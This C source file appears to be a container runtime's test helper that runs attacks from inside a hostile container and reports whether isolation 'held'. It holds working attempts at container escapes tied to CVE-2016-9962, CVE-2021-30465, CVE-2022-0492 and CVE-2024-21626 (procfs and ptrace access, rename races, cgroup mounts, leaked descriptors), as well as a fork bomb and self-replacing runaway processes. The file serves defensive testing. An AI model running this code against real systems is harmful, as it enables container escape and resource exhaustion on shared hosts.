/* What hostile containers run. Each attack prints what it got hold of; `held` says that it got nothing. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define KEEPER_NAME "skep-keeper"

/* The name of a process that has not become the program yet is still the keeper's. */
static bool is_not_yet_program(int pid) {
  char path[64];
  char name[32] = "";
  (void)snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int file = open(path, O_RDONLY);
  if (file < 0) return false;
  ssize_t length = read(file, name, sizeof name - 1);
  (void)close(file);
  return length > 0 && strncmp(name, KEEPER_NAME, strlen(KEEPER_NAME)) == 0;
}

static bool can_open(int pid, const char *what) {
  char path[64];
  (void)snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
  int file = open(path, O_RDONLY);
  if (file < 0) return false;
  (void)close(file);
  return true;
}

/*
 * In the middle of its exec a process has the program already, but the keeper's name still. What the program is given is
 * its container's; what it is not given must be closed by then.
 */
static bool is_in_exec(int pid) {
  char path[64];
  char program[256] = "";
  (void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t length = readlink(path, program, sizeof program - 1);
  return length > 0 && strstr(program, KEEPER_NAME) == NULL;
}

/* Stays attached: the kernel tells the tracer first of the end, and the keeper only when the tracer is gone. */
static bool can_trace(int pid) { return ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0; }

/* In a process of its own, whose end lets go again. */
static bool can_trace_briefly(int pid) {
  pid_t tracer = fork();
  if (tracer == 0) _exit(can_trace(pid) ? 0 : 1);
  int status = 1;
  return tracer > 0 && waitpid(tracer, &status, 0) == tracer && status == 0;
}

static bool is_secret(const char *door) {
  return strncmp(door, "fd/", 3) == 0 && strcmp(door, "fd/0") != 0 && strcmp(door, "fd/1") != 0;
}

/* CVE-2016-9962: looks for processes that have joined but not exec'd, until the file `/stop` is there. */
static int catch_joining(void) {
  static const char *const doors[] = {"exe", "fd/0", "fd/1", "fd/3", "fd/4", "fd/5", "mem",
                                      "environ", "maps", "root", "cwd"};
  long seen = 0;
  long caught = 0;
  while (access("/stop", F_OK) < 0) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == getpid() || !is_not_yet_program(pid)) continue;
      seen++;
      if (seen == 1) (void)close(open("/seen", O_CREAT | O_WRONLY, 0600));
      for (size_t index = 0; index < sizeof doors / sizeof doors[0]; index++)
        if (can_open(pid, doors[index]) && is_not_yet_program(pid) && (is_secret(doors[index]) || !is_in_exec(pid)))
          caught++, printf("opened %s\n", doors[index]);
      if (can_trace_briefly(pid) && is_not_yet_program(pid) && !is_in_exec(pid)) caught++, printf("traced\n");
    }
    if (processes != NULL) (void)closedir(processes);
  }
  printf("%s\n", seen == 0 ? "saw nothing" : caught == 0 ? "held" : "caught");
  return 0;
}

/* Traces every program that joins, and never lets go of one that ended. */
static int hold_joined(void) {
  for (;;) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid > 1 && pid != getpid() && !is_not_yet_program(pid) && can_trace(pid))
        (void)close(open("/seen", O_CREAT | O_WRONLY, 0600));
    }
    if (processes != NULL) (void)closedir(processes);
  }
}

/* CVE-2021-30465: swaps two names again and again. */
static int swap(const char *left, const char *right) {
  (void)close(open("/seen", O_CREAT | O_WRONLY, 0600));
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, left, AT_FDCWD, right, RENAME_EXCHANGE) < 0) return 1;
}

/* Fills the process limit and holds it. */
static int fork_bomb(void) {
  for (int count = 0; count < 100000; count++) {
    pid_t pid = fork();
    if (pid < 0) {
      printf("stopped after %d\n", count);
      (void)fflush(stdout);
      for (;;) (void)fork(), (void)usleep(1000);
    }
    if (pid == 0) {
      for (;;) (void)pause();
    }
  }
  printf("unlimited\n");
  return 0;
}

/* Processes that are never where a list of them says: each is replaced by its child at once. */
static int run_away(void) {
  for (int runner = 0; runner < 8; runner++) {
    if (fork() != 0) continue;
    for (;;) {
      pid_t next = fork();
      if (next > 0) _exit(0);
      if (next < 0) (void)usleep(1000);
    }
  }
  printf("running\n");
  (void)fflush(stdout);
  for (;;) (void)pause();
}

/* Namespaces of its own in which it would be root over mounts (CVE-2022-0492), then its own control groups writable. */
static int mount_groups(const char *type, const char *options, const char *file, const char *value) {
  char path[PATH_MAX];
  (void)mkdir("/tmp/groups", 0755);
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) return printf("held: unshare: %s\n", strerror(errno)), 0;
  if (mount("none", "/tmp/groups", type, 0, options) < 0) return printf("held: mount: %s\n", strerror(errno)), 0;
  (void)snprintf(path, sizeof path, "/tmp/groups/%s", file);
  int opened = open(path, O_WRONLY);
  if (opened < 0 || write(opened, value, strlen(value)) < 0) return printf("held: write: %s\n", strerror(errno)), 0;
  printf("wrote %s\n", file);
  return 0;
}

/* CVE-2024-21626 and leaks of any kind: what this program was given. */
static int show_descriptors(void) {
  char current[PATH_MAX];
  for (int descriptor = 0; descriptor < 1024; descriptor++)
    if (fcntl(descriptor, F_GETFD) >= 0) printf("descriptor %d\n", descriptor);
  printf("folder %s\n", getcwd(current, sizeof current) == NULL ? strerror(errno) : current);
  return 0;
}

int main(int count, char **arguments) {
  const char *attack = count > 1 ? arguments[1] : "";
  if (strcmp(attack, "catch-joining") == 0) return catch_joining();
  if (strcmp(attack, "hold-joined") == 0) return hold_joined();
  if (strcmp(attack, "swap") == 0 && count == 4) return swap(arguments[2], arguments[3]);
  if (strcmp(attack, "fork-bomb") == 0) return fork_bomb();
  if (strcmp(attack, "run-away") == 0) return run_away();
  if (strcmp(attack, "show-descriptors") == 0) return show_descriptors();
  if (strcmp(attack, "mount-groups") == 0 && count == 6)
    return mount_groups(arguments[2], arguments[3], arguments[4], arguments[5]);
  return 2;
}
